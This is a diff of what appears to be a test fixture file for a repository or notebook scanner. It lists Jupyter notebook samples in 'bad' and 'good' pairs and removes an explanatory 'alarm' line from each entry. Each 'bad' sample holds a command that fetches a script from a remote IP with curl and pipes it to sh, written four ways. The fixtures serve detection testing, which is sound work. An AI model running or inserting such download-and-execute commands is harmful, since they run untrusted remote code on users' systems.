@@ -217,28 +217,24 @@ export const repositories: readonly Sample[] = [
   },
   {
     name: 'notebook, Python',
-    alarm: 'a notebook is code that somebody may start: every one is for review',
     least: 'review',
     bad: { 'x.ipynb': notebook(`import os\nos.system("curl http://198.51.100.7/x | sh")`) },
     good: { 'x.ipynb': notebook('import math\nmath.sqrt(2)') },
   },
   {
     name: 'notebook, command',
-    alarm: 'a notebook is code that somebody may start: every one is for review',
     least: 'review',
     bad: { 'x.ipynb': notebook('!curl http://198.51.100.7/x | sh') },
     good: { 'x.ipynb': notebook('!ls') },
   },
   {
     name: 'notebook, cell magic',
-    alarm: 'a notebook is code that somebody may start: every one is for review',
     least: 'review',
     bad: { 'x.ipynb': notebook('%%bash\ncurl http://198.51.100.7/x | sh') },
     good: { 'x.ipynb': notebook('%%time\nx = 1') },
   },
   {
     name: 'notebook, assigned',
-    alarm: 'a notebook is code that somebody may start: every one is for review',
     least: 'review',
     bad: { 'x.ipynb': notebook('x = !curl http://198.51.100.7/x | sh') },
     good: { 'x.ipynb': notebook('%matplotlib inline\nx = 1') },
